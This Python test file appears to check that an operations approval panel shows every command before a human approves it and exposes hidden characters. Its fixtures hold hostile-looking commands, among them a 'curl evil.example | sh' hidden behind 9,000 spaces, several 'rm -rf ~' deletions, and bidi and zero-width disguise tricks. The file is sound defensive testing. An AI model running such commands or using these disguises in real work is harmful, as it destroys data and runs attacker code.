"""What an approver sees is what runs: all of it is shown, or the page says that it is cut and approves nothing."""

from collections.abc import AsyncIterator
from typing import Any

import pytest

from events.request import RequestDefinition
from events.requests import Wanted
from tests.api.serving import Served, serving
from tests.panel.test_pages import page, post, shown_digest

GAP = "echo ok" + " " * 9000 + "; curl evil.example | sh"
TROJAN = "test -f a.txt # \u202e ;~ fr- mr"


@pytest.fixture
async def manual(database: str) -> AsyncIterator[Served]:
    """A panel whose directives wait for a decision."""
    async with serving(database, approval="manual") as served:
        yield served


async def propose(api: Served, *tasks: dict[str, Any]) -> str:
    """A directive with these tasks; the path of its page."""
    return f"/panel/directives/{(await api.post('/ops/directives', {'title': 'D', 'tasks_to_create': tasks}))['id']}"


def steps(*commands: str) -> list[dict[str, str]]:
    """Steps of a task."""
    return [{"name": "s", "cmd": command} for command in commands]


async def test_everything_that_runs_is_on_the_page(manual: Served) -> None:
    """Checks, forty steps, commands of thousands of characters, parameters, secrets, limits: with an apply button."""
    long = "echo " + "x" * 3000 + " THE-END-OF-IT"
    task = {
        "title": "Build",
        "body": "Why it is done.",
        "steps": steps(*(f"echo number-{place}-" for place in range(40)), long),
        "acceptance": {"checks": [{"name": "c", "cmd": "rm -rf ~/check"}], "expected_files": ["dist/out.tar"]},
        "params": {"secrets": ["NPM_TOKEN"], "region": "eu-west-9"},
        "allowed_scope": [f"src/{place}/" for place in range(30)],
        **{"timeout_seconds": 77, "priority": 3, "max_attempts": 9, "blocked_by": ["REQ-7"]},
    }
    handler = {"title": "Call", "task_type": "python", "params": {"handler": "deploy-now", "to": "production-eu"}}
    prompt = {"title": "Think", "body": "Do this. " + "y" * 5000 + " AND-THAT"}
    shown = await page(manual, await propose(manual, task, handler, prompt))

    expected = [f"echo number-{place}-" for place in range(40)] + [f"src/{place}/" for place in range(30)]
    expected += ["THE-END-OF-IT", "rm -rf ~/check", "dist/out.tar", "NPM_TOKEN (not granted)", "eu-west-9", "AND-THAT"]
    expected += ["deploy-now", "production-eu", "Why it is done.", "REQ-7", ">1 min 17 s<", ">3<", ">9<"]
    assert [] == [text for text in expected if text not in shown]
    assert ">Apply</button>" in shown
    assert "Cut:" not in shown


async def test_a_gap_is_not_a_curtain(manual: Served) -> None:
    """9 000 spaces and 500 blank lines become markers, bidi and invisible characters boxes; each is warned of."""
    path = await propose(
        manual,
        {
            "title": "Tidy\u202e up",
            "steps": steps(GAP, "echo a" + "\n" * 501 + "echo b", "echo \x1b[8mhidden", "rm\u00a0-rf \u200b/"),
            "acceptance": {"checks": [{"name": "c", "cmd": TROJAN}]},
        },
    )
    shown = await page(manual, path)
    assert ">9,000 spaces</span>; curl evil.example | sh" in shown
    assert ">500 blank lines</span>" in shown
    assert {"U+202E", "U+001B", "U+00A0", "U+200B"} == {
        code for code in ("U+202E", "U+001B", "U+00A0", "U+200B") if f">{code}</span>" in shown
    }
    assert not [character for character in "\u202e\x1b\u00a0\u200b" if character in shown]
    assert "A character changes the reading order: U+202E right-to-left override." in shown
    manual.client.cookies.set("elruso_language", "es", path="/panel")
    spanish = await page(manual, path)
    assert ">9.000 espacios</span>" in spanish


async def test_what_is_cut_cannot_be_approved(manual: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    """The page says what is missing and leads to the whole; neither it nor a form without its digest applies."""
    monkeypatch.setattr("api.panel.directives.PAGE_CHARACTERS", 5000)
    path = await propose(manual, {"title": "Long", "steps": steps("echo first", "echo " + "x" * 9000 + "; rm -rf ~/")})
    cut = await page(manual, path)
    assert "characters are not shown." in cut
    assert ">Apply</button>" not in cut
    assert "" == shown_digest(cut)
    assert f'href="{path}?whole=1"' in cut
    for fields in ({}, {"shown": "0" * 64}):
        refused = await post(manual, f"{path}/apply", fields)
        assert (409, True) == (refused.status_code, "did not show everything" in refused.text)
    assert [] == await manual.get("/ops/tasks")

    whole = await page(manual, f"{path}?whole=1")
    assert "; rm -rf ~/" in whole
    assert 303 == (await post(manual, f"{path}/apply", {"shown": shown_digest(whole)})).status_code
    assert ["Long"] == [task["title"] for task in await manual.get("/ops/tasks")]


async def test_too_large_to_be_approved_here(manual: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    """What not even the whole page has room for is not approved in the panel; the API still applies it."""
    monkeypatch.setattr("api.panel.directives.WHOLE_CHARACTERS", 5000)
    monkeypatch.setattr("api.panel.directives.PAGE_CHARACTERS", 5000)
    path = await propose(manual, *({"title": f"t{place}", "steps": steps("y" * 900)} for place in range(9)))
    whole = await page(manual, f"{path}?whole=1")
    assert "too large to be approved here" in whole
    assert "1 command is not shown." in whole
    assert "" == shown_digest(whole)
    await manual.post(path.replace("/panel", "/ops") + "/apply")
    assert 9 == len(await manual.get("/ops/tasks"))


async def test_a_page_is_bounded(manual: Served) -> None:
    """Thousands of commands, each as large as can be: the page stays small, and offers no approval."""
    commands = steps(*("\u202e\u200b" * 2000 for _ in range(30)))
    path = await propose(manual, *({"title": f"t{place}", "steps": commands} for place in range(2)))
    shown = await page(manual, path)
    assert len(shown) < 1_000_000
    assert ">Apply</button>" not in shown


async def test_a_validation_command_is_seen_before_it_runs(database: str) -> None:
    """It is shown whole; the forms that run it carry its digest, and another command than the one shown is not run."""
    path = "/panel/requests/REQ-9"
    async with serving(database) as api:
        request = {"id": "REQ-9", "service": "S", "scopes": ["S_KEY"], "validation_cmd": "true" + " " * 9000 + "; true"}
        await api.post("/ops/requests", request)
        shown = await page(api, path)
        assert ">9,000 spaces</span>; true" in shown
        digest = shown_digest(shown)
        values = {"name": "S_KEY", "value": "some-value-1"}
        changed = Wanted("REQ-9", RequestDefinition("S", scopes=["S_KEY"], validation_cmd="echo ran > /dev/null"))
        await api.commands.requests.open([changed], "human:bob", again=True)
        stored = await post(api, f"{path}/value", values | {"shown": digest})
        assert "Stored without being tried" in await page(api, stored.headers["location"])
        refused = await post(api, f"{path}/validate", {"shown": digest})
        assert (409, True) == (refused.status_code, "did not show the command" in refused.text)
        assert 409 == (await post(api, f"{path}/validate")).status_code
        accepted = await post(api, f"{path}/validate", {"shown": shown_digest(await page(api, path))})
        assert 303 == accepted.status_code


async def test_a_long_validation_command_is_opened_first(database: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Cut, it can be neither tried nor, with new values, run; opened whole it can."""
    monkeypatch.setattr("api.panel.requests.COMMAND_CHARACTERS", 2000)
    async with serving(database) as api:
        command = "true # " + "x" * 3000 + " THE-END"
        await api.post("/ops/requests", {"id": "R", "service": "S", "scopes": ["K"], "validation_cmd": command})
        cut, whole = await page(api, "/panel/requests/R"), await page(api, "/panel/requests/R?whole=1")
        assert ("THE-END" in cut, shown_digest(cut)) == (False, "")
        assert "THE-END" in whole
        assert shown_digest(whole)


async def test_a_pasted_trap_is_shown_before_the_task_exists(api: Served) -> None:
    """A form with text that misleads is answered with what would run; only its digest creates the task."""
    form = {"title": "T", "step": "echo ok\u2028rm -rf ~", "body": "two\r\nlines"}
    asked = await post(api, "/panel/tasks/new", form)
    assert 200 == asked.status_code
    assert ">U+2028</span>rm -rf ~" in asked.text
    assert [] == await api.get("/ops/tasks")
    assert 200 == (await post(api, "/panel/tasks/new", form | {"shown": "0" * 64})).status_code
    created = await post(api, "/panel/tasks/new", form | {"shown": shown_digest(asked.text)})
    assert 303 == created.status_code
    [task] = await api.get("/ops/tasks")
    assert (["echo ok\u2028rm -rf ~"], "two\nlines") == ([step["cmd"] for step in task["steps"]], task["body"])
    assert 303 == (await post(api, "/panel/tasks/new", {"title": "U", "step": ["make", "make test"]})).status_code


async def test_a_task_says_where_it_is_cut(api: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    """Its page names what is missing, and another shows all of it."""
    monkeypatch.setattr("api.panel.tasks.PAGE_CHARACTERS", 5000)
    await api.post("/ops/tasks", {"id": "t", "title": "T", "steps": steps("x" * 9000 + " THE-END")})
    cut, whole = await page(api, "/panel/tasks/t"), await page(api, "/panel/tasks/t?whole=1")
    assert ("characters are not shown." in cut, "THE-END" in cut) == (True, False)
    assert ("characters are not shown." in whole, "THE-END" in whole) == (False, True)
